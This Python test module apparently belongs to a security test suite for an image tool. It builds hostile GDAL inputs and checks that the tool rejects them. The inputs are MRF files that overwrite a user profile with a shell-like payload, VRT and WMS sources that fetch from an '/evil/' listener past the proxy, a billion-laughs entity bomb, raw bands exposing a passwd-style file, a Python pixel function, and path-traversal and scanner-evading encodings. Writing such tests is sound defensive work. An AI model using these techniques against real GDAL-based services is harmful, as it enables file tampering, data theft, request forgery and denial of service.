"""Images that make GDAL write, fetch, or show other files: MRF, WMS and VRT (S1, S2, S3, S12)."""

from collections.abc import Callable
from pathlib import Path

import numpy as np
import tifffile

from tests.hostile.case import (
    Case,
    Place,
    image,
    overview_sidecar,
    overview_tag,
    pixels,
    step,
    vrt,
    write_png,
    write_tiff,
)

PAYLOAD = b"\necho this came from an image\n"
HALF = 256  # pixels a side of the overview of an image of 512
NOWHERE = {"no_proxy": "127.0.0.1", "NO_PROXY": "127.0.0.1"}
PADDING = 2**24 + 2**20  # bytes, more than a check of the first 16 MiB reads
SECRET = b"user:password-of-the-user:1000\n"
# As another file, a mask is believed only with these flags.
MASK_FLAGS = (
    '<PAMDataset><Metadata><MDI key="INTERNAL_MASK_FLAGS_1">2</MDI></Metadata></PAMDataset>'
)


def mrf(place: Place, side: int = 512) -> str:
    """Return an MRF that caches the pixels of `payload.bin` at the end of a file of the user."""
    values = pixels(side)
    values.reshape(-1)[: len(PAYLOAD)] = np.frombuffer(PAYLOAD, np.uint8)
    tifffile.imwrite(place.images / "payload.bin", values, photometric="rgb", metadata=None)
    return (
        f"<MRF_META><CachedSource><Source>{place.images}/payload.bin</Source></CachedSource>"
        f'<Raster><Size x="{side}" y="{side}" c="3"/><PageSize x="{side}" y="{side}" c="3"/>'
        f"<Compression>NONE</Compression><DataFile>{place.victim}/profile</DataFile>"
        f"<IndexFile>{place.victim}/index</IndexFile></Raster></MRF_META>"
    )


def _text(name: str, content: Callable[[Place], str]) -> Callable[[Place], object]:
    return lambda place: (place.images / name).write_text(content(place))


def _tags(name: str, value: Callable[[Place], str]) -> Callable[[Place], object]:
    return lambda place: write_tiff(place.images / name, metadata=overview_tag(value(place)))


def _sidecar(name: str, value: Callable[[Place], str]) -> Callable[[Place], object]:
    def make(place: Place) -> None:
        write_tiff(place.images / name)
        (place.images / f"{name}.aux.xml").write_text(overview_sidecar(value(place)))

    return make


def _beside(
    write: Callable[[Path], object], name: str, other: str, side: int
) -> Callable[[Place], object]:
    """Return how to write a sound image beside MRF text that is called `other`."""

    def make(place: Place) -> None:
        write(place.images / name)
        (place.images / other).write_text(mrf(place, side))
        if other.endswith(".msk"):
            (place.images / f"{other}.aux.xml").write_text(MASK_FLAGS)

    return make


def _inner(name: str, depth: int) -> Callable[[Place], object]:
    """Return how to write a VRT around VRTs around a file of MRF text."""

    def make(place: Place) -> None:
        inner = place.images / "inner.bin"
        inner.write_text(mrf(place))
        for number in range(depth):
            outer = place.images / f"middle{number}.bin"
            outer.write_text(vrt(inner.name, relative=True))
            inner = outer
        (place.images / name).write_text(vrt(inner.name, relative=True))

    return make


def _source_with(
    overviews: Callable[[Place, Path], object], source: str = "source.tif"
) -> Callable[[Place], object]:
    """Return how to write a VRT whose source is sound but for where its overviews lie."""

    def make(place: Place) -> None:
        overviews(place, place.images / source)
        (place.images / "a.vrt").write_text(vrt(source, relative=True))

    return make


def _tagged(place: Place, path: Path) -> None:
    write_tiff(path, metadata=overview_tag(mrf(place, HALF)))


def _described(place: Place, path: Path) -> None:
    write_tiff(path)
    Path(f"{path}.aux.xml").write_text(overview_sidecar(mrf(place, HALF)))


def _ovr_tagged(place: Place) -> None:
    """Write overviews in a TIFF that names overviews of its own."""
    write_png(place.images / "a.png")
    write_tiff(place.images / "a.png.ovr", HALF, metadata=overview_tag(mrf(place, HALF // 2)))


def _connections(place: Place) -> None:
    """Write a list of what GDAL takes for services, not for files."""
    rows = (f"WMS:{place.url}/evil/wms?x=1", f"WMTS:{place.url}/evil/wmts.xml", mrf(place))
    lines = ["path", *(f'"{row.replace(chr(34), chr(34) * 2)}"' for row in rows)]
    (place.images / "list.csv").write_text("\n".join(lines) + "\n")


WRITING = (
    image("mrf-in-overview-tag-of-source", "S1", "a.vrt", _source_with(_tagged)),
    image("mrf-in-aux-xml-of-source", "S1", "a.vrt", _source_with(_described)),
    image("mrf-in-overview-tag-of-ovr", "S1", "a.png", _ovr_tagged),
    Case("services-in-a-manifest", "S2", _connections,
         (step("info", "--manifest", "{images}/list.csv", codes=(3, 4)),
          step("predict", "--manifest", "{images}/list.csv", "-o", "out.jsonl", codes=(3, 4))),
         environment=NOWHERE),
    image("mrf-named-tif", "S1", "scene_042.tif", _text("scene_042.tif", mrf)),
    Case(
        "mrf-in-a-folder", "S1",
        lambda place: (_text("scene_042.tif", mrf)(place), write_tiff(place.images / "good.tif")),
        (step("predict", "{images}", "-o", "out.jsonl", codes=(8,), says=("scene_042.tif",)),),
    ),
    image("mrf-in-overview-tag", "S1", "a.tif", _tags("a.tif", lambda p: mrf(p, HALF))),
    image("mrf-in-aux-xml", "S1", "a.tif", _sidecar("a.tif", lambda p: mrf(p, HALF))),
    image(
        "mrf-file-in-overview-tag", "S1", "a.tif",
        lambda place: (
            _text("inner.bin", lambda p: mrf(p, HALF))(place),
            _tags("a.tif", lambda p: ":::BASE:::inner.bin")(place),
        ),
    ),
    image("mrf-as-ovr-of-tiff", "S1", "a.tif", _beside(write_tiff, "a.tif", "a.tif.ovr", HALF)),
    image("mrf-as-ovr-of-png", "S1", "a.png", _beside(write_png, "a.png", "a.png.ovr", HALF)),
    image("mrf-as-msk-of-tiff", "S1", "a.tif", _beside(write_tiff, "a.tif", "a.tif.msk", 512)),
    image("mrf-as-msk-of-png", "S1", "a.png", _beside(write_png, "a.png", "a.png.msk", 512)),
    # GDAL takes nothing but HFA from `.aux`, so the image itself is sound.
    image(
        "mrf-as-aux", "S1", "a.tif", _beside(write_tiff, "a.tif", "a.aux", HALF),
        info=(0, 3), predict=(0, 3),
    ),
    image("mrf-in-vrt", "S1", "a.vrt", _text("a.vrt", lambda p: vrt(mrf(p)))),
    image("mrf-file-in-vrt", "S1", "a.vrt", _inner("a.vrt", 0)),
    image("mrf-file-in-vrt-in-vrt", "S1", "a.vrt", _inner("a.vrt", 1)),
    image("mrf-in-vrt-in-vrt-text", "S1", "a.vrt", _text("a.vrt", lambda p: vrt(vrt(mrf(p))))),
)  # fmt: skip


def _curl(place: Place) -> str:
    """Return a name that GDAL fetches past the proxy that stands for no network."""
    return f"/vsicurl?proxy=&url={place.url}/evil/x.tif"


def _plain(place: Place) -> str:
    return f"/vsicurl/{place.url}/evil/x.tif"


def wms(place: Place) -> str:
    """Return the description of a tile service on the listener."""
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{place.url}/evil/${{z}}/${{x}}/${{y}}.png'
        "</ServerUrl></Service><DataWindow><UpperLeftX>0</UpperLeftX><UpperLeftY>512</UpperLeftY>"
        "<LowerRightX>512</LowerRightX><LowerRightY>0</LowerRightY><SizeX>512</SizeX>"
        "<SizeY>512</SizeY><TileLevel>1</TileLevel><YOrigin>top</YOrigin></DataWindow>"
        "<Projection>EPSG:3857</Projection><BlockSizeX>256</BlockSizeX>"
        "<BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount></GDAL_WMS>"
    )


def _encoded(text: str) -> str:
    """Write every sign that is no letter as an entity, and so hide a name from a search."""
    return "".join(each if each.isalnum() else f"&#{ord(each)};" for each in text)


def _nested(place: Place) -> None:
    (place.images / "inner.bin").write_text(vrt(_plain(place)))
    (place.images / "a.vrt").write_text(vrt("inner.bin", relative=True))


def _as_attribute(place: Place) -> str:
    """Return a VRT with its source in an attribute: for GDAL that is a child like any other."""
    text = vrt("NAME").replace('<SourceFilename relativeToVRT="0">NAME</SourceFilename>', "")
    return text.replace(
        "<SimpleSource>", f'<SimpleSource sourcefilename="{_encoded(_curl(place))}">'
    )


def _other_case(place: Place) -> str:
    """Return a VRT that GDAL reads, whose tags end in other letters than they begin with."""
    return _encoded_names(place).replace("</SourceFilename>", "</sourcefilename>")


def _encoded_names(place: Place) -> str:
    return vrt("NAME").replace("NAME", _encoded(_curl(place)))


def _padded(place: Place) -> str:
    return vrt(_plain(place)).replace("<VRTRasterBand", f"<!--{' ' * PADDING}--><VRTRasterBand", 1)


def _laughs(place: Place) -> str:
    """Return a VRT with entities that stand for each other, a billion times over."""
    entities = "".join(
        f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10)
    )
    doctype = f'<!DOCTYPE VRTDataset [<!ENTITY e0 "{_plain(place)}">{entities}]>'
    return doctype + vrt("NAME").replace("NAME", "&e9;")


def _wms_in_vrt(place: Place) -> str:
    return vrt("NAME").replace("NAME", _encoded(wms(place)))


def _batch(bad: str) -> tuple:
    """Return the steps of a batch of a good URL and a bad local image."""
    words = ("{url}/served/good.tif", f"{{images}}/{bad}")
    return (
        step("info", *words, codes=(8,)),
        step("predict", *words, "-o", "out.jsonl", codes=(8,), says=(bad,)),
    )


def _with_url(
    name: str, bad: str, make: Callable[[Place], object], environment: dict[str, str] | None = None
) -> Case:
    return Case(
        name, "S3", make, _batch(bad), environment=environment or {}, may_request="/served/"
    )


FETCHING = (
    image("curl-in-overview-tag", "S2", "a.tif", _tags("a.tif", _curl)),
    image("curl-in-aux-xml", "S2", "a.tif", _sidecar("a.tif", _curl)),
    image("curl-in-vrt", "S2", "a.vrt", _text("a.vrt", lambda p: vrt(_curl(p)))),
    image("curl-as-entities-in-vrt", "S2", "a.vrt", _text("a.vrt", _encoded_names)),
    image("curl-as-attribute-in-vrt", "S2", "a.vrt", _text("a.vrt", _as_attribute)),
    image("curl-in-vrt-that-is-no-xml", "S2", "a.vrt", _text("a.vrt", _other_case)),
    image("entities-of-entities-in-vrt", "S2", "a.vrt", _text("a.vrt", _laughs),
          environment=NOWHERE),
    image("wms-named-tif", "S2", "a.tif", _text("a.tif", wms)),
    image("wms-in-vrt", "S2", "a.vrt", _text("a.vrt", _wms_in_vrt)),
    image("wms-in-overview-tag", "S2", "a.tif", _tags("a.tif", wms)),
    image("http-in-overview-tag", "S3", "a.tif", _tags("a.tif", lambda p: f"{p.url}/evil/x.tif"),
          environment=NOWHERE),
    image("no-proxy-vrt", "S3", "a.vrt", _text("a.vrt", lambda p: vrt(_plain(p))),
          environment=NOWHERE),
    image("no-proxy-overview-tag", "S3", "a.tif", _tags("a.tif", _plain), environment=NOWHERE),
    image("no-proxy-nested-vrt", "S3", "a.vrt", _nested, environment=NOWHERE),
    image("no-proxy-after-16-mib", "S3", "a.vrt", _text("a.vrt", _padded), environment=NOWHERE),
    _with_url("url-then-overview-tag", "a.tif", _tags("a.tif", _plain)),
    _with_url("url-then-nested-vrt", "a.vrt", _nested),
    _with_url("url-then-aux-xml", "a.tif", _sidecar("a.tif", _plain), NOWHERE),
)  # fmt: skip


def _raw(place: Place) -> str:
    """Return a VRT that shows the bytes of any file as pixels."""
    (place.victim / "passwd").write_bytes(SECRET * 40)
    bands = "".join(
        f'<VRTRasterBand dataType="Byte" band="{band}" subClass="VRTRawRasterBand">'
        f"<ColorInterp>{colour}</ColorInterp>"
        f'<SourceFilename relativeToVRT="0">{place.victim}/passwd</SourceFilename>'
        "<ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>32</LineOffset>"
        "</VRTRasterBand>"
        for band, colour in enumerate(("Red", "Green", "Blue"), 1)
    )
    return f'<VRTDataset rasterXSize="32" rasterYSize="32">{bands}</VRTDataset>'


def _derived(place: Place, function: str, code: str = "") -> str:
    write_tiff(place.images / "source.tif")
    inside = f"<PixelFunctionType>{function}</PixelFunctionType>{code}"
    text = vrt("source.tif", relative=True).replace("<ColorInterp>", f"{inside}<ColorInterp>")
    return text.replace("<VRTRasterBand ", '<VRTRasterBand subClass="VRTDerivedRasterBand" ')


def _python(place: Place) -> str:
    """Return a VRT with a function in Python, which a setting of GDAL lets run."""
    code = (
        "<PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionCode><![CDATA[\n"
        "def run(*arguments, **options):\n"
        f"    open({str(place.victim / 'owned')!r}, 'w').close()\n"
        "]]></PixelFunctionCode>"
    )
    return _derived(place, "run", code)


def _outside(name: str, source: Callable[[Place], str], *, relative: bool) -> Case:
    def make(place: Place) -> None:
        write_tiff(place.victim / "secret.tif")
        (place.images / "a.vrt").write_text(vrt(source(place), relative=relative))

    return image(name, "S12", "a.vrt", make)


def _link(place: Place) -> None:
    write_tiff(place.victim / "secret.tif")
    (place.images / "near.tif").symlink_to(place.victim / "secret.tif")
    (place.images / "a.vrt").write_text(vrt("near.tif", relative=True))


def _hidden_by_instruction(place: Place) -> None:
    """Write a VRT whose true source hides in what is a comment to other parsers than GDAL's."""
    (place.images / "raw.bin").write_text(_raw(place))
    write_tiff(place.images / "sound.tif")
    hidden = '<?x /><SourceFilename relativeToVRT="1">raw.bin</SourceFilename><!-- ?> -->'
    text = vrt(f"{place.images}/sound.tif").replace("<SourceFilename", f"{hidden}<SourceFilename")
    (place.images / "a.vrt").write_text(text)


SHOWING = (
    image("raw-band-of-passwd", "S12", "a.vrt", _text("a.vrt", _raw)),
    image("raw-band-behind-an-instruction", "S12", "a.vrt", _hidden_by_instruction),
    image("pixel-function", "S12", "a.vrt", _text("a.vrt", lambda p: _derived(p, "real"))),
    image("pixel-function-in-python", "S12", "a.vrt", _text("a.vrt", _python),
          environment={"GDAL_VRT_ENABLE_PYTHON": "YES"}),
    _outside("source-above-the-folder", lambda p: "../victim/secret.tif", relative=True),
    _outside("source-elsewhere", lambda p: f"{p.victim}/secret.tif", relative=False),
    _outside("source-of-subdataset", lambda p: f"GTIFF_DIR:1:{p.victim}/secret.tif",
             relative=False),
    _outside("source-of-connection", lambda p: f"vrt://{p.victim}/secret.tif?bands=1,2,3",
             relative=False),
    _outside("source-in-vsi", lambda p: f"/vsisubfile/0,{p.victim}/secret.tif", relative=False),
    image("source-behind-a-link", "S12", "a.vrt", _link, info=(0, 3), predict=(0, 3)),
)  # fmt: skip

CASES = (*WRITING, *FETCHING, *SHOWING)
